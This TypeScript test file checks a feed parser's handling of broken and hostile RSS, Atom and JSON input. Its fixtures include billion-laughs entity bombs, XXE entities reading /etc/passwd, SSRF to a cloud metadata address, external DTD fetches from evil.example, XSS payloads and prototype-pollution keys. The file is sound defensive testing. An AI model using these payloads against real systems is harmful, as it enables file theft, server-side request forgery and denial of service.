import { describe, expect, test } from 'vitest'
import { readFeed } from '../../src/intake/feed.ts'
import { ADDRESS, atom, item, json, read, rss } from './feeds.ts'

const GOOD = '<item><title>Good</title><link>https://courier.example/good</link></item>'
const DTD = (subset: string) =>
  `<?xml version="1.0"?><!DOCTYPE rss [${subset}]><rss version="2.0"><channel><title>T</title>`
const LAUGHS = Array.from({ length: 20 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
const declared = (subset: string, title: string) =>
  `${DTD(subset)}<item><title>${title}</title></item>${GOOD}</channel></rss>`

describe('refused, each for its own reason', () => {
  const cases: [name: string, body: string, refused: string, detail: RegExp][] = [
    ['nothing', '', 'empty', /nothing in it/],
    ['white space', ' \n\ufeff ', 'empty', /nothing in it/],
    ['a web page', '<!doctype html><html><head><title>x</title></head></html>', 'a web page', /web page/],
    ['a feed inside a web page', `<html><body>${rss(GOOD)}</body></html>`, 'a web page', /web page/],
    ['plain words', 'Service unavailable', 'not a feed', /neither XML nor JSON/],
    [
      'another vocabulary',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
      'not a feed',
      /<svg>/,
    ],
    ['only a document type', '<!DOCTYPE rss [<!ENTITY a "b">', 'not well-formed', /document type never ends/],
    ['only a comment', '<!-- x -->', 'not well-formed', /no element/],
    ['an RSS of nothing', '<rss version="2.0"></rss>', 'not a feed', /Nothing of what a feed holds/],
    ['half of a JSON', '{"version":"https://jsonfeed.org/version/1","items":[', 'not well-formed', /no JSON/],
    ['another JSON', '{"error":"no such feed"}', 'not a feed', /no JSON Feed/],
    ['a JSON list', '[1,2]', 'not a feed', /no JSON Feed/],
    ['a flood of tags', rss('<a/>'.repeat(160_000)), 'not well-formed', /more than 150000 tags/],
    ['bytes of a picture', '\u0089PNG\r\n\u001a\n\u0000<\u0000IHDR', 'not well-formed', /no element/],
  ]
  test.each(cases)('%s', (_, body, refused, detail) => {
    const feed = readFeed(body, ADDRESS)
    expect(feed).toMatchObject({ refused, detail: expect.stringMatching(detail) })
  })
})

describe('made harmless: the good entry is read, and nothing of the other acts', () => {
  const cases: [name: string, body: string, bad?: string][] = [
    ['a billion laughs', declared(`<!ENTITY l0 "ha">${LAUGHS}`, '&l20;'), '&l20;'],
    [
      'a quadratic blow-up',
      declared(`<!ENTITY a "${'x'.repeat(100_000)}">`, '&a;'.repeat(50)),
      '&a;'.repeat(50),
    ],
    ['an external entity', declared('<!ENTITY x SYSTEM "file:///etc/passwd">', 'a&x;b'), 'a&x;b'],
    [
      'an external entity by network',
      declared('<!ENTITY x PUBLIC "-" "http://169.254.169.254/">', '&x;'),
      '&x;',
    ],
    ['a parameter entity', declared('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;', 'a'), 'a'],
    ['an entity that redefines', declared('<!ENTITY amp "x">', 'a &amp; b'), 'a & b'],
    [
      'an entity with markup in it',
      declared('<!ENTITY x "]><rss><channel><item><title>no</title></item>">', 'a'),
      'a',
    ],
    ['two document types', `<!DOCTYPE rss><!DOCTYPE rss [<!ENTITY a "b">]>${rss(GOOD)}`],
    ['an external document type', `<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">${rss(GOOD)}`],
    ['an apostrophe in a comment of the document type', declared("<!-- don't --><!ENTITY a 'b'>", 'a'), 'a'],
    ['elements 20,000 deep', rss(`<x>${'<a>'.repeat(20_000)}</x>${GOOD}`)],
    ['an entry 20,000 deep', rss(`<item><title>a</title>${'<a>'.repeat(20_000)}</item>${GOOD}`), 'a'],
    ['entries within entries', rss(`${'<item>'.repeat(500)}${GOOD}`)],
    ['100,000 attributes', rss(`<item ${'a="b" '.repeat(30_000)}><title>a</title></item>${GOOD}`), 'a'],
    [
      'one attribute of 100,000 characters',
      rss(`<item x="${'y'.repeat(100_000)}"><title>a</title></item>${GOOD}`),
      'a',
    ],
    [
      "a name of JavaScript's own",
      rss(`<item><__proto__><x>1</x></__proto__><constructor/><title>a</title></item>${GOOD}`),
      'a',
    ],
    [
      'an attribute of that name',
      rss(`<item __proto__="x" constructor="y"><title>a</title></item>${GOOD}`),
      'a',
    ],
    ['a name no element may have', rss(`<item><#text>x</#text><title>a</title></item>${GOOD}`), 'a'],
    ['an element called length', rss(`<item><length>1000000000</length><title>a</title></item>${GOOD}`), 'a'],
    [
      '… with a prefix',
      rss(
        `<item><rss:length xmlns:rss="http://backend.userland.com/rss2">1000000000</rss:length><title>a</title></item>${GOOD}`,
      ),
      'a',
    ],
    [
      '… behind an instruction with a quote',
      rss(`<item><?x " ?><!-- " ?><length>1000000000</length> --><title>a</title></item>${GOOD}`),
      'a',
    ],
    [
      'brackets in an author',
      rss(`<item><author>${'('.repeat(300_000)}</author><title>a</title></item>${GOOD}`),
      'a',
    ],
    ['an end tag of nothing', rss(`<item><title>a</title></x></channel2></item>${GOOD}`), 'a'],
    ['an element never ended', rss(`<item><title>a</title><description>b</item>${GOOD}`), 'a'],
    ['a title never ended', rss(`<item><title>a${GOOD}`), 'a'],
    [
      'a CDATA section never ended',
      rss(`<item><title><![CDATA[a</title></item><item><title><![CDATA[b]]></title></item>${GOOD}`),
      'a',
    ],
    ['a comment never ended', rss(`<item><title>a</title><!-- b</item>${GOOD}`), 'a'],
    [
      'tags without ends',
      rss(`<item><title>a</title>${'<a '.repeat(100_000)}${"<a b='".repeat(50_001)}</item>${GOOD}`),
    ],
    ['a less-than before a word', rss(`<item><title>a <b and c</title></item>${GOOD}`), 'a <b and c'],
    ['a stray less-than', rss(`<item><title>a < b <1</title></item>${GOOD}`), 'a < b <1'],
    ['an attribute never ended', rss(`<item><title>a</title><p t="b></item>${GOOD}`)],
    ['NULs and controls', rss(`<item><title>a\u0000b\u0008\u001f</title></item>${GOOD}`), 'ab'],
    ['controls by reference', rss(`<item><title>a&#8;&#x1b;</title></item>${GOOD}`), 'a'],
    ['lone surrogates', rss(`<item><title>a\ud800</title></item>${GOOD}`), 'a\ufffd'],
    ['bidirectional overrides', rss(`<item><title>a\u202eb&#x202e;c\u2067</title></item>${GOOD}`), 'abc'],
    ['a script in a title', rss(`<item><title>&lt;script>alert(1)&lt;/script>a</title></item>${GOOD}`), 'a'],
    [
      'a picture with a handler in a title',
      rss(`<item><title><![CDATA[<img src=x onerror=alert(1)>a]]></title></item>${GOOD}`),
      'a',
    ],
    [
      'a script address',
      rss(
        `<item><title>a</title><link>java\nscript:alert(1)</link><guid>data:text/html,x</guid></item>${GOOD}`,
      ),
      'a',
    ],
    [
      'an address with a password',
      rss(`<item><title>a</title><link>https://u:p@courier.example/</link></item>${GOOD}`),
      'a',
    ],
    [
      'a namespace bound to another name',
      rss(`<item xmlns:content="http://evil.example/"><title>a</title></item>${GOOD}`),
      'a',
    ],
    [
      'a guid of 200,000 characters',
      rss(`<item><guid>${'g'.repeat(200_000)}</guid><title>a</title></item>${GOOD}`),
      'a',
    ],
    [
      'a date of 200,000 characters',
      rss(`<item><pubDate>${'1 '.repeat(100_000)}</pubDate><title>a</title></item>${GOOD}`),
      'a',
    ],
    [
      'an RDF list that points everywhere',
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><items><rdf:Seq>${'<rdf:li rdf:resource="u"/>'.repeat(40_000)}</rdf:Seq></items></channel>${'<item rdf:about="u"><title>a</title></item>'.repeat(20)}${GOOD}</rdf:RDF>`,
      'a',
    ],
    ['text behind the root', `${rss(GOOD)}<script>x</script>${'<a>'.repeat(1_000)}`],
    [
      '200,000 less-than signs',
      rss(`<item><title>a</title><description>${'<'.repeat(200_000)}</description></item>${GOOD}`),
      'a',
    ],
    ['200,000 empty comments', rss(`${'<!---->'.repeat(200_000)}${GOOD}`)],
    [
      'a deep XHTML',
      atom(
        `<entry><id>a</id><title>a</title><content type="xhtml"><div>${'<div>'.repeat(30_000)}</content></entry><entry><id>g</id><title>Good</title></entry>`,
      ),
      'a',
    ],
    [
      'Base64 that is no text',
      atom(
        '<entry><id>a</id><title>a</title><content type="image/png">iVBORw0KGgo=</content></entry><entry><id>g</id><title>Good</title></entry>',
      ),
      'a',
    ],
    [
      'a JSON object with a length',
      json([{ title: 'a', tags: { length: 1e9 } }, { title: 'Good' }], { authors: { length: 1e9 } }),
      'a',
    ],
    [
      '… in another letter case',
      json([{ title: 'a', Authors: { LENGTH: 1e9, length: 1e9 } }, { title: 'Good' }]),
      'a',
    ],
    ['JSON items of any kind', json([null, 5, 'x', [], { id: {}, title: { a: 1 } }, { title: 'Good' }])],
    [
      'a deep JSON',
      `{"version":"https://jsonfeed.org/version/1","title":"T","x":${'['.repeat(50_000)}${']'.repeat(50_000)},"items":[{"title":"Good"}]}`,
    ],
    [
      'a JSON prototype',
      '{"version":"https://jsonfeed.org/version/1","title":"T","items":[{"__proto__":{"title":"no"},"id":"1"},{"title":"Good"}]}',
    ],
  ]
  test.each(cases)('%s', (_, body, bad) => {
    const before = performance.now()
    const feed = read(body)
    expect(performance.now() - before).toBeLessThan(3_000)
    const titles = feed.entries.map(({ title }) => title)
    expect(titles).toContain('Good')
    if (bad !== undefined) expect(titles).toContain(bad)
    expect(({} as Record<string, unknown>).title).toBeUndefined()
    for (const { url, guid } of feed.entries) {
      expect(url ?? 'https:').toMatch(/^https?:/)
      expect((guid ?? '').length).toBeLessThanOrEqual(500)
    }
  })
})

test('a length and a million other elements are told apart', () => {
  expect(
    read(item('<title>a</title><enclosure url="x" length="5" type="audio/mpeg"/>')).entries,
  ).toHaveLength(1)
})
